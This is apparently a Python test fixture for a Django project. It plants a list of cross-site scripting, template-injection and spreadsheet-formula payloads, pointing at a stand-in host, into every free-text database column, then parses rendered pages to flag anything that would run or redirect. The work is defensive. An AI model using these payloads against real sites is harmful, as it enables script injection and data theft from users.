"""Hostile words in every place where a text is kept, and what a page must not make of them.

The places are read off the models. What is not filled is a code of ours, or says nothing to
anybody: each has its reason below, and a new field has none.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator, Mapping
from html.parser import HTMLParser
from typing import Any, Final

from django.apps import apps
from django.db import connection, models

# Each wants to become an element, an attribute, an address or a command. None does anything.
PAYLOADS: Final = (
    "<script>planted(1)</script>",
    "<SCRIPT SRC=//planted.example/x.js></SCRIPT>",
    "<img src=x onerror=planted(1)>",
    '"><img src=x onerror=planted(1)>',
    "'><svg onload=planted(1)>",
    "<svg/onload=planted(1)>",
    '" onmouseover="planted(1)',
    "' onfocus='planted(1)' autofocus='",
    "x onpointerenter=planted(1) ",
    "</title><script>planted(1)</script>",
    "</textarea><script>planted(1)</script>",
    "</script><script>planted(1)</script>",
    "</style><script>planted(1)</script>",
    "--><script>planted(1)</script>",
    "]]><script>planted(1)</script>",
    "<iframe src=//planted.example></iframe>",
    '<iframe srcdoc="<script>planted(1)</script>">',
    "<object data=//planted.example></object>",
    "<embed src=//planted.example>",
    "<base href=//planted.example/>",
    '<meta http-equiv=refresh content="0;//planted.example">',
    "<link rel=stylesheet href=//planted.example/x.css>",
    "<style>@import'//planted.example/x.css'</style>",
    "<form action=//planted.example><input name=p>",
    "<a href=javascript:planted(1)>x</a>",
    "[x](javascript:planted(1))",
    "javascript:planted(1)",
    "<details open ontoggle=planted(1)>",
    "<video><source onerror=planted(1)>",
    "<marquee onstart=planted(1)>",
    "<math><mtext><img src=x onerror=planted(1)>",
    "<template><planted-x></template>",
    "<planted-x planted=1>",
    "<div style=background:url(//planted.example)>",
    "<plaintext>",
    "<!--planted",
    "&lt;script&gt;planted(1)&lt;/script&gt;",
    "&#60;img src=x onerror=planted(1)&#62;",
    "%3Cscript%3Eplanted(1)%3C/script%3E",
    "{{ 733173317331|add:6 }}{% debug %}",
    "${733173317331+6}#{733173317331+6}<%= 733173317331+6 %>",
    '=HYPERLINK("//planted.example","x")',
    "<!channel> <http://planted.example|bank>",
)
WORKED_OUT: Final = "733173317337"  # what a template would make of two of them

STRUCTURE: Final[Mapping[str, str]] = {
    **dict.fromkeys(
        ("zone", "due_zone", "language", "currency", "happened"), "one of a list; refused otherwise"
    ),
    **dict.fromkeys(
        (
            "password",
            "prefix",
            "sha256",
            "salt",
            "text_digest",
            "previous_hash",
            "hash",
            "head_hash",
        ),
        "made by us, out of letters and digits",
    ),
    **dict.fromkeys(
        (
            "fingerprint",
            "browser_key_hash",
            "code_digest",
            "principal",
            "key",
            "origin_key",
            "stored",
        ),
        "made by us, and shown to nobody",
    ),
    **dict.fromkeys(
        ("secret", "previous_secret", "secrets", "logo_mark", "logo_type", "source_key"),
        "made by us, and shown to nobody",
    ),
    **dict.fromkeys(
        (
            "template",
            "channel",
            "outcome",
            "counts_as",
            "next_action",
            "system",
            "source",
            "origin",
        ),
        "a code of ours",
    ),
    **dict.fromkeys(
        ("audience", "hands_to", "cause", "code", "external_source", "about", "media_type"),
        "a code of ours",
    ),
    "Review.happened": "",
    "Suppression.cause": "",
    "Session.session_data": "signed by us, and shown to nobody",
    "Delivery.text": "the mail itself: tried by putting it into words again",
    "Delivery.html": "the mail itself: tried by putting it into words again",
    "SavedView.query": "an address's query, which is read as one",
    "Schedule.asks": "an address's query, which is read as one",
    "Schedule.told_of": "instants",
    "JobRound.name": "a code of ours",
    "Mark.name": "a code of ours",
    "AuditFinding.number": "a code of ours",
}  # an empty reason: filled after all, though others of this name are not


def places() -> Iterator[tuple[type[models.Model], list[models.Field[Any, Any]]]]:
    """Each of our tables with those of its columns in which somebody's words may stand."""
    for model in tables():
        if kept := [each for each in model._meta.concrete_fields if _holds_words(model, each)]:
            yield model, kept


def tables() -> Iterator[type[models.Model]]:
    for room in ("commitments", "notifications"):
        yield from apps.get_app_config(room).get_models()


def _holds_words(model: type[models.Model], column: models.Field[Any, Any]) -> bool:
    if not isinstance(column, models.CharField | models.TextField):
        return False
    if column.choices or column.primary_key:
        return False
    named = f"{model.__name__}.{column.name}"
    return not STRUCTURE.get(named, STRUCTURE.get(column.name, ""))


def plant(turn: int) -> int:
    """Write them into every row; another `turn` gives each place others. Answers how many."""
    with connection.cursor() as cursor:
        cursor.execute("set local session_replication_role = replica")  # events stay as they are
    planted = 0
    for model, columns in places():
        rows = list(model._default_manager.all())
        for (place, row), column in itertools.product(enumerate(rows, start=1), columns):
            setattr(row, column.attname, _words(column, model, place=place, turn=turn))
            planted += 1
        model._default_manager.bulk_update(rows, [each.name for each in columns], batch_size=500)
    return planted


def _words(
    column: models.Field[Any, Any], model: type[models.Model], *, place: int, turn: int
) -> str:
    """As many as have room, each row beginning with another, and ending with its number."""
    most, number = column.max_length or 10_000, f"#{place}"
    if "url" in column.name or f"{model.__name__}.{column.name}" == "HelpDesk.address":
        return f'https://desk.example/"onmouseover="planted({place})'[:most]
    said = ""
    first = (turn * 11 + sum(column.name.encode()) + place) % len(PAYLOADS)
    for payload in (*PAYLOADS[first:], *PAYLOADS[:first]):
        if len(said) + len(payload) + len(number) < most:
            said += f"{payload} "
    return (said + number).lower() if column.name == "email" else said + number


class Skeleton(HTMLParser):
    """Which elements a page has, with which attributes; and what in it would run or lead away."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: set[tuple[str, str]] = set()
        self.wrong: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = dict(attrs)
        self.parts |= {(tag, ""), *((tag, name) for name in names)}
        if tag == "script" and "src" not in names:
            self.wrong.append("a script in the page")
        for name, value in attrs:
            self._judge(tag, name, (value or "").strip().lower())

    def _judge(self, tag: str, name: str, value: str) -> None:
        if name.startswith("on") or name == "srcdoc":
            self.wrong.append(f"{tag} {name}={value}")
        if name in {"href", "src", "action", "formaction", "data", "poster", "hx-get", "hx-post"}:
            leads = value.startswith(("javascript:", "data:text", "vbscript:"))
            if leads or value.startswith(("//", "\\", "http://planted", "https://planted")):
                self.wrong.append(f"{tag} {name}={value}")
